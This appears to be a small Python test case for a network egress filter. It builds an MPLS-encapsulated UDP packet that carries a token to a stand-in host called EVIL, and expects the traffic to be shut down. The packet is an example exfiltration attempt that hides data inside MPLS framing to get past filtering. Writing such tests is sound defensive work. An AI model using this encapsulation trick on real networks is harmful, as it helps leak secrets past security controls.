"""
how: in MPLS
expect: shut
"""

from frames import frame, gateway, ipv4
from land import EVIL


def attempt(token):
    return frame(gateway(), 0x8847, b"\0\1\x41\x40" + ipv4(EVIL, 17, token))
